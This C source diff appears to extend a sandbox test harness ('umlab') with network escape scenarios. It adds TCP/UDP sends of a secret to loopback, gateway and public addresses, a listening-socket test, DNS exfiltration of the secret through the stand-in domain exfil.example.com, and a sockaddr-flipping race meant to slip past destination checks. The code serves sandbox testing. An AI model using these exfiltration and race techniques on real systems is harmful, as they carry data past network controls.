@@ -15,6 +15,16 @@
  *   host-escape PATH      the attacker tries to read PATH, a host file outside its root (also,
  *                         on x86-64, through the syscall instruction of umlab's stub page)
  *   outlive               the attacker leaves a process behind that tries to survive umlab
+ * Network attacks (the harness listens on the host and reports whatever reaches it):
+ *   net-reach PORT SECRET ADDR...   TCP connects and UDP datagrams carrying SECRET to the host's
+ *                         127.0.0.1, the gateway 10.0.2.2, public addresses and ADDRs, at PORT
+ *   net-bind PORT         listens on PORT (IPv4 and IPv6) for a while; the harness looks for it
+ *                         on the host
+ *   dns-exfil SECRET PORT ADDR...   DNS queries whose name carries SECRET, to umlab's answerer,
+ *                         to the gateway, to public resolvers and to ADDRs at PORT, and a lookup
+ *                         through the C library
+ *   toctou DENIED-ADDR DENIED-PORT ALLOWED-ADDR ALLOWED-PORT   connects while a second thread
+ *                         flips the sockaddr between an allowed and a denied destination
  *
  * The attacker prints what it finds; the harness, not this program, decides "leaked" (the
  * secret, or the kernel arena's magic, appears in the output) or "blocked".
@@ -30,7 +40,13 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <arpa/inet.h>
+#include <netdb.h>
+#include <netinet/in.h>
+#include <pthread.h>
+#include <sched.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
@@ -346,6 +362,197 @@ static int attack_outlive(void)
 
 /* ---- scenarios ---------------------------------------------------------------------------- */
 
+/* ---- network ------------------------------------------------------------------------------ */
+
+static int sockaddr_for(const char *addr, int port, struct sockaddr_storage *ss, socklen_t *len)
+{
+    memset(ss, 0, sizeof *ss);
+    struct sockaddr_in *a4 = (struct sockaddr_in *)ss;
+    struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)ss;
+    if (inet_pton(AF_INET, addr, &a4->sin_addr) == 1) {
+        a4->sin_family = AF_INET;
+        a4->sin_port = htons((uint16_t)port);
+        *len = sizeof *a4;
+        return AF_INET;
+    }
+    if (inet_pton(AF_INET6, addr, &a6->sin6_addr) == 1) {
+        a6->sin6_family = AF_INET6;
+        a6->sin6_port = htons((uint16_t)port);
+        *len = sizeof *a6;
+        return AF_INET6;
+    }
+    return -1;
+}
+
+/* One TCP connect and one UDP datagram carrying SECRET to addr:port; prints what it got. */
+static void reach(const char *addr, int port, const char *secret)
+{
+    struct sockaddr_storage ss;
+    socklen_t len;
+    int family = sockaddr_for(addr, port, &ss, &len);
+    if (family < 0) return;
+    int s = socket(family, SOCK_STREAM, 0);
+    if (s >= 0) {
+        if (connect(s, (struct sockaddr *)&ss, len) == 0) {
+            char buf[256];
+            if (write(s, secret, strlen(secret)) < 0) {}
+            ssize_t n = read(s, buf, sizeof buf - 1);
+            buf[n > 0 ? n : 0] = 0;
+            printf("tcp %s:%d: connected, read \"%s\"\n", addr, port, buf);
+        } else {
+            printf("tcp %s:%d: %s\n", addr, port, strerror(errno));
+        }
+        close(s);
+    }
+    s = socket(family, SOCK_DGRAM, 0);
+    if (s >= 0) {
+        if (sendto(s, secret, strlen(secret), 0, (struct sockaddr *)&ss, len) >= 0) printf("udp %s:%d: sent\n", addr, port);
+        else printf("udp %s:%d: %s\n", addr, port, strerror(errno));
+        close(s);
+    }
+}
+
+static const char *public_addresses[] = { "8.8.8.8", "1.1.1.1", "192.0.2.1", "2001:4860:4860::8888", NULL };
+
+static int attack_net_reach(int port, const char *secret, char **extra)
+{
+    reach("127.0.0.1", port, secret);
+    reach("::1", port, secret);
+    reach("10.0.2.2", port, secret);
+    reach("10.0.2.3", port, secret);
+    for (const char **a = public_addresses; *a; a++) reach(*a, port, secret);
+    for (; *extra; extra++) reach(*extra, port, secret);
+    return 0;
+}
+
+static int attack_net_bind(int port)
+{
+    struct sockaddr_storage ss;
+    socklen_t len;
+    int s4 = socket(AF_INET, SOCK_STREAM, 0), s6 = socket(AF_INET6, SOCK_STREAM, 0);
+    int one = 1;
+    setsockopt(s6, IPPROTO_IPV6, IPV6_V6ONLY, &one, sizeof one);
+    sockaddr_for("0.0.0.0", port, &ss, &len);
+    int r4 = bind(s4, (struct sockaddr *)&ss, len) == 0 && listen(s4, 8) == 0;
+    sockaddr_for("::", port, &ss, &len);
+    int r6 = bind(s6, (struct sockaddr *)&ss, len) == 0 && listen(s6, 8) == 0;
+    printf("listening on %d: ipv4 %s, ipv6 %s\n", port, r4 ? "yes" : "no", r6 ? "yes" : "no");
+    fflush(stdout);
+    /* Stay listening while the harness looks from the host. */
+    for (int i = 0; i < 30; i++) {
+        struct timespec t = { 0, 100000000 };
+        nanosleep(&t, NULL);
+    }
+    return 0;
+}
+
+/* A DNS query (RD set) for NAME, type A. */
+static int dns_query(unsigned char *out, const char *name)
+{
+    unsigned char *p = out;
+    static const unsigned char header[12] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
+    memcpy(p, header, 12);
+    p += 12;
+    const char *label = name;
+    while (*label) {
+        const char *dot = strchr(label, '.');
+        size_t n = dot ? (size_t)(dot - label) : strlen(label);
+        *p++ = (unsigned char)n;
+        memcpy(p, label, n);
+        p += n;
+        label += n + (dot ? 1 : 0);
+    }
+    *p++ = 0;
+    *p++ = 0; *p++ = 1;  /* type A */
+    *p++ = 0; *p++ = 1;  /* class IN */
+    return (int)(p - out);
+}
+
+static void ask(const char *addr, int port, const unsigned char *q, int qlen)
+{
+    struct sockaddr_storage ss;
+    socklen_t len;
+    int family = sockaddr_for(addr, port, &ss, &len);
+    int s = socket(family, SOCK_DGRAM, 0);
+    if (s < 0) return;
+    if (sendto(s, q, (size_t)qlen, 0, (struct sockaddr *)&ss, len) < 0) {
+        printf("dns %s:%d: %s\n", addr, port, strerror(errno));
+    } else {
+        struct timeval tv = { 0, 300000 };
+        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
+        unsigned char r[512];
+        ssize_t n = recv(s, r, sizeof r, 0);
+        if (n >= 4) printf("dns %s:%d: answered, rcode %d, %d answers\n", addr, port, r[3] & 0xf, n >= 8 ? r[7] : 0);
+        else printf("dns %s:%d: no answer\n", addr, port);
+    }
+    close(s);
+}
+
+static int attack_dns_exfil(const char *secret, int port, char **extra)
+{
+    char name[256];
+    unsigned char q[512];
+    snprintf(name, sizeof name, "%.60s.exfil.example.com", secret);
+    int n = dns_query(q, name);
+    ask("10.0.2.3", 53, q, n);
+    ask("10.0.2.2", 53, q, n);
+    ask("127.0.0.1", 53, q, n);
+    ask("8.8.8.8", 53, q, n);
+    ask("10.0.2.3", port, q, n);
+    ask("10.0.2.2", port, q, n);
+    for (; *extra; extra++) { ask(*extra, 53, q, n); ask(*extra, port, q, n); }
+    struct addrinfo *res = NULL;
+    int e = getaddrinfo(name, NULL, NULL, &res);
+    printf("getaddrinfo: %s\n", e == 0 ? "resolved" : gai_strerror(e));
+    if (res) freeaddrinfo(res);
+    return 0;
+}
+
+/* The time-of-check/time-of-use race: one thread connects over and over through a sockaddr
+ * that another thread keeps switching between an allowed and a denied destination. */
+static struct sockaddr_storage race_addr, race_allowed, race_denied;
+static socklen_t race_len;
+static volatile int race_done;
+
+static void *flipper(void *unused)
+{
+    (void)unused;
+    /* Each state holds for a while and the threads take turns, so connects meet both
+     * destinations (and, where threads run at once, the moments between). */
+    while (!race_done) {
+        memcpy(&race_addr, &race_denied, sizeof race_addr);
+        for (volatile int i = 0; i < 2000; i++) {}
+        sched_yield();
+        memcpy(&race_addr, &race_allowed, sizeof race_addr);
+        for (volatile int i = 0; i < 2000; i++) {}
+        sched_yield();
+    }
+    return NULL;
+}
+
+static int attack_toctou(const char *denied, int denied_port, const char *allowed, int allowed_port)
+{
+    socklen_t l2;
+    sockaddr_for(denied, denied_port, &race_denied, &race_len);
+    sockaddr_for(allowed, allowed_port, &race_allowed, &l2);
+    memcpy(&race_addr, &race_allowed, sizeof race_addr);
+    pthread_t t;
+    if (pthread_create(&t, NULL, flipper, NULL) != 0) return 1;
+    int ok = 0, refused = 0, other = 0;
+    for (int i = 0; i < 400; i++) {
+        int s = socket(race_allowed.ss_family, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&race_addr, race_len) == 0) ok++;
+        else if (errno == ENETUNREACH) refused++;
+        else other++;
+        close(s);
+        sched_yield();
+    }
+    race_done = 1;
+    pthread_join(t, NULL);
+    printf("toctou: %d connected, %d unreachable, %d other\n", ok, refused, other);
+    return 0;
+}
+
 static pid_t spawn(char *const argv[])
 {
     pid_t p = fork();
@@ -475,6 +682,10 @@ int main(int argc, char **argv)
     if (!strcmp(role, "attack-root") && argc > 2) return attack_become_root(argv[2]);
     if (!strcmp(role, "host-escape") && argc > 2) return attack_host_escape(argv[2]);
     if (!strcmp(role, "outlive")) return attack_outlive();
+    if (!strcmp(role, "net-reach") && argc > 3) return attack_net_reach(atoi(argv[2]), argv[3], argv + 4);
+    if (!strcmp(role, "net-bind") && argc > 2) return attack_net_bind(atoi(argv[2]));
+    if (!strcmp(role, "dns-exfil") && argc > 3) return attack_dns_exfil(argv[2], atoi(argv[3]), argv + 4);
+    if (!strcmp(role, "toctou") && argc > 5) return attack_toctou(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]));
     fprintf(stderr, "%s: unknown role %s\n", argv[0], role);
     return 2;
 }
